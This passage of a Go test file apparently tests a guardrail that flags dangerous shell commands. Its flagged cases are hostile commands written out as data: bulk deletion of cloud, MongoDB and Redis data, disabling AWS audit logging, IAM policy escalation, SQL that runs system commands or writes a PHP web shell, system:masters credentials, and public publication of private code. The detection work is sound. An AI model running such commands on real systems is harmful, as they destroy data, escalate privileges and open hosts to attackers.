		cmdCase("rclone purge remote-prod:acme-archive", true),
		cmdCase("rclone delete b2:acme-backups/db", true),
		cmdCase("gcloud storage rm --recursive gs://acme-ml-datasets/", true),
		cmdCase("gcloud storage rm -r gs://acme-ml-datasets/raw", true),
		cmdCase(`mongosh "mongodb://admin:$PW@10.0.3.21:27017/?authSource=admin" --eval 'db.getSiblingDB("analytics").events.deleteMany({})'`, true),
		cmdCase(`mongosh mongodb://db.acme.io/app --eval 'db.users.remove({ })'`, true),
		cmdCase("redis-cli -u redis://default:$REDIS_PW@cache.acme.io:6380 --tls FLUSHALL ASYNC", true),
		cmdCase("restic forget --keep-daily 7 --keep-weekly 4 --prune", false),
		cmdCase("restic forget 4f1c2a9e", false),
		cmdCase("borg prune --keep-daily 7 /mnt/backup/repo", false),
		cmdCase("borg list /mnt/backup/repo", false),
		cmdCase("rclone copy ./dist b2:acme-artifacts/dist", false),
		cmdCase("rclone delete ./tmp/cache", false),
		cmdCase("gcloud storage rm gs://acme-artifacts/build-123.zip", false),
		cmdCase(`mongosh --eval 'db.sessions.deleteMany({expiresAt: {$lt: new Date()}})'`, false),
		cmdCase("redis-cli --tls -h cache.acme.io GET session:42", false),
	})
}

func TestCloudGuardrailsOff(t *testing.T) {
	runRuleCases(t, "defense.log-tamper", []ruleCase{
		cmdCase("aws configservice stop-configuration-recorder --configuration-recorder-name default", true),
		cmdCase("aws configservice delete-delivery-channel --delivery-channel-name default", true),
		cmdCase("aws organizations leave-organization", true),
		cmdCase("aws configservice describe-configuration-recorders", false),
		cmdCase("aws organizations describe-organization", false),
	})
	runRuleCases(t, "infra.access-grant", []ruleCase{
		cmdCase(`aws iam create-policy-version --policy-arn arn:aws:iam::123456789012:policy/DevReadOnly --policy-document '{"Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}' --set-as-default`, true),
		cmdCase("aws iam set-default-policy-version --policy-arn arn:aws:iam::123456789012:policy/Dev --version-id v1", true),
		cmdCase("aws iam list-policy-versions --policy-arn arn:aws:iam::123456789012:policy/Dev", false),
	})
}

func TestInfraDestroyKeysFromListing(t *testing.T) {
	runRuleCases(t, "infra.destroy", []ruleCase{
		cmdCase("redis-cli -h 172.31.5.44 --scan --pattern 'session:*' | xargs -L 500 redis-cli -h 172.31.5.44 DEL", true),
		cmdCase("redis-cli -u redis://cache.acme.io --scan | xargs redis-cli -u redis://cache.acme.io UNLINK", true),
		cmdCase("redis-cli --scan --pattern 'cache:*' | xargs redis-cli del", false),
		cmdCase("redis-cli -h 172.31.5.44 DEL session:42", false),
	})
}

// TestDatabaseCommand: SQL that makes the server run a command or write
// a file, as an argument or on stdin; exports to the client are everyday.
func TestDatabaseCommand(t *testing.T) {
	runRuleCases(t, "rce.database-command", []ruleCase{
		cmdCase(`psql -h db.internal -c "COPY (SELECT '') TO PROGRAM 'id > /tmp/x'"`, true),
		cmdCase("psql -U postgres <<'EOF'\nCREATE FUNCTION sh(c text) RETURNS text AS $$ import os; return os.popen(c).read() $$ LANGUAGE plpython3u;\nEOF", true),
		cmdCase(`mysql -e "SELECT '<?php system(\$_GET[c]); ?>' INTO OUTFILE '/var/www/html/s.php'"`, true),
		cmdCase(`psql -h db.prod -U postgres -c "ALTER ROLE postgres PASSWORD NULL"`, true),
		cmdCase(`psql -d app_dev -c "\copy orders TO 'orders.csv' CSV HEADER"`, false),
		cmdCase(`psql -d app_dev -c "COPY orders TO STDOUT WITH CSV HEADER" > orders.csv`, false),
		cmdCase(`psql -d app_dev -c "CREATE FUNCTION add(a int, b int) RETURNS int LANGUAGE sql AS 'SELECT a + b'"`, false),
	})
}

// TestMastersGroup: a certificate or binding for system:masters.
func TestMastersGroup(t *testing.T) {
	runRuleCases(t, "infra.access-grant", []ruleCase{
		cmdCase(`openssl req -new -key a.key -subj "/CN=admin/O=system:masters" -out a.csr`, true),
		cmdCase("kubectl apply -f - <<'EOF'\nkind: ClusterRoleBinding\nsubjects:\n- kind: Group\n  name: system:masters\nEOF", true),
		cmdCase(`openssl req -new -key d.key -subj "/CN=dev/O=developers" -out d.csr`, false),
	})
}

// TestDrainListedNodes: every node a listing names, drained.
func TestDrainListedNodes(t *testing.T) {
	runRuleCases(t, "infra.destroy", []ruleCase{
		cmdCase("kubectl get nodes -o name | xargs -I{} kubectl drain {} --ignore-daemonsets --force", true),
		cmdCase("kubectl drain node-3 --ignore-daemonsets", false),
	})
}

// TestRepoCreatedPublic: the working tree published as a public repository.
func TestRepoCreatedPublic(t *testing.T) {
	runRuleCases(t, "infra.access-grant", []ruleCase{
		cmdCase("gh repo create someone/copy --public --source=. --push", true),
		cmdCase("gh repo create acme/newlib --private --source=. --push", false),
		cmdCase("gh repo create acme/site --public", false),
	})
}
